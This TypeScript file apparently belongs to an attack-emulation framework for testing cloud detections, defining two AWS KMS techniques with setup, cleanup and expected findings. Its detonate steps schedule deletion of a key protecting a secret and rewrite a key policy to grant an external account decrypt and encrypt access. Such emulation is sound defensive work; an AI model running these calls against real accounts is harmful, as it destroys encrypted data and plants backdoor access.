/** Attacks on KMS keys: destroying a key that protects data, opening a key to another account. */
import { PutKeyPolicyCommand, ScheduleKeyDeletionCommand } from '@aws-sdk/client-kms';
import { CreateSecretCommand, DeleteSecretCommand } from '@aws-sdk/client-secrets-manager';
import { unlessGone } from '../fixtures/gone.js';
import { EXTERNAL_PRINCIPAL } from '../fixtures/iam.js';
import { accountKeyPolicyStatement, createKey } from '../fixtures/kms.js';
import { technique } from '../technique.js';

export const kmsScheduleKeyDeletion = technique<string>({
  id: 'aws.impact.kms-schedule-key-deletion',
  title: 'Schedule the Deletion of a KMS Key in Use',
  source: 'bulwark',
  tactics: ['Impact'],
  expectedFindingTypes: ['Impact:KMS/DataDestruction'],
  async setup(context) {
    const keyId = await createKey(context, 'protects a secret');
    const secretName = context.name('protected-secret');
    const secretsManager = context.operator.secretsManager;
    await secretsManager.send(new CreateSecretCommand({ Name: secretName, KmsKeyId: keyId, SecretString: 'data the key protects' }));
    context.undo(`delete secret ${secretName}`, () => unlessGone(() => secretsManager.send(new DeleteSecretCommand({ SecretId: secretName, ForceDeleteWithoutRecovery: true }))));
    return keyId;
  },
  async detonate({ attacker }, keyId) {
    await attacker.kms.send(new ScheduleKeyDeletionCommand({ KeyId: keyId, PendingWindowInDays: 7 }));
  },
});

export const kmsKeyPolicyBackdoor = technique<string>({
  id: 'aws.persistence.kms-key-policy-backdoor',
  title: 'Backdoor a KMS Key Policy for Another Account',
  source: 'bulwark',
  tactics: ['Persistence', 'Exfiltration'],
  expectedFindingTypes: ['Persistence:KMS/AccountManipulation'],
  setup: (context) => createKey(context, 'backdoor target'),
  async detonate({ attacker, accountId }, keyId) {
    const policy = {
      Version: '2012-10-17',
      Statement: [
        accountKeyPolicyStatement(accountId),
        { Sid: 'Backdoor', Effect: 'Allow', Principal: { AWS: EXTERNAL_PRINCIPAL }, Action: ['kms:Decrypt', 'kms:Encrypt', 'kms:GenerateDataKey*', 'kms:DescribeKey'], Resource: '*' },
      ],
    };
    await attacker.kms.send(new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: JSON.stringify(policy) }));
  },
});
